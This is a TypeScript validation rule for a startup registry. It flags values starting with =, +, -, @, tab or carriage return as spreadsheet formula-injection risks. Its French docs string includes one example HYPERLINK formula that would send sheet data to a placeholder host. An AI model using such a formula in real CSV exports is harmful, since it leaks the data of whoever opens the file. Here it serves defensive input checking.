import { defineRule } from '../define-rule.ts'
import { forEachString, pointerOf, q, qe, show, T, w } from '../kit.ts'

/** `=`, `+`, `-`, `@`, tab, carriage return: what spreadsheets read as the start of a formula (OWASP). */
const FORMULA_START = new Set([61, 43, 45, 64, 9, 13])

const NAMES: Record<string, [string, string]> = { '\t': ['une tabulation', 'a tab'], '\r': ['un retour chariot', 'a carriage return'] }
const first = (value: string, lang: 0 | 1) => NAMES[value[0]!]?.[lang] ?? (lang === 0 ? q(value[0]) : qe(value[0]))

export default defineRule({
  id: 'value-formula',
  description: 'Une valeur commence par =, +, -, @, une tabulation ou un retour chariot : un tableur la lirait comme une formule.',
  standards: [],
  category: 'value hygiene',
  collections: ['startups', 'organisations', 'incubators'],
  applies: 'always',
  messages: {
    formula: T(
      w((d) => `${d.field} commence par ${first(String(d.value), 0)} : ouvert dans un tableur, le fichier CSV du registre la lirait comme une formule (${q(show(d.value))}).`, () => 'Reformulez le début de la valeur (par exemple « Plus de… » plutôt que « +… »), ou supprimez ce caractère.'),
      w((d) => `${d.field} starts with ${first(String(d.value), 1)}: opened in a spreadsheet, the registry's CSV file would read it as a formula (${qe(show(d.value))}).`, () => 'Rephrase the start of the value (for example "More than…" rather than "+…"), or remove this character.'),
    ),
  },
  docs: `Les fichiers CSV du registre (\`api/v2.7/startups.csv\`) s’ouvrent dans des tableurs, qui lisent une
cellule commençant par \`=\`, \`+\`, \`-\`, \`@\`, une tabulation ou un retour chariot comme une formule :
\`=HYPERLINK("https://exemple.invalid/?"&A2;"Cliquez")\` deviendrait un lien qui envoie les données de la
feuille ailleurs. Le registre neutralise ces cellules comme le recommande l’OWASP (une apostrophe devant,
et des guillemets autour ; voir docs/api.md), mais la valeur publiée n’est alors plus exactement celle de
la fiche. Aucune fiche réelle ne commence ainsi.

**Corriger** : reformulez le début de la valeur, ou supprimez ce caractère.`,
  check(ctx) {
    forEachString(ctx.record.data, (value, path) => {
      if (FORMULA_START.has(value.charCodeAt(0))) ctx.report({ messageId: 'formula', path: pointerOf(path), data: { field: path.join('.'), value } })
    })
  },
})
